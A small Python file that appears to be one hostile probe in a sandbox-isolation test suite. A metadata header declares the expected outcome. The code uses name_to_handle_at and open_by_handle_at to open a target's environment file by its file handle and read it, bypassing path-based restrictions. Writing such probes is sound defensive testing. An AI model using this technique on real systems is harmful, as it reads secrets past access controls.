# /// hostile
# does = "opens a file by its inode instead of by its path"
# accept = ["returned"]
# must_not = "secret"
# control = "root"
# ///
import ctypes
import os
import struct


def answer(target):
    libc = ctypes.CDLL(None, use_errno=True)
    folder = os.path.dirname(target["env_file"])
    print("attacking", flush=True)
    # struct file_handle of a file system with 32-bit inodes: size, type, inode, generation; the generation is asked for
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, os.fsencode(target["env_file"]), handle, ctypes.byref(mount), 0) != 0:
        return "refused"
    base = os.open(folder, os.O_RDONLY)
    fd = libc.open_by_handle_at(base, handle, os.O_RDONLY)
    return os.read(fd, 500) if fd >= 0 else "refused"
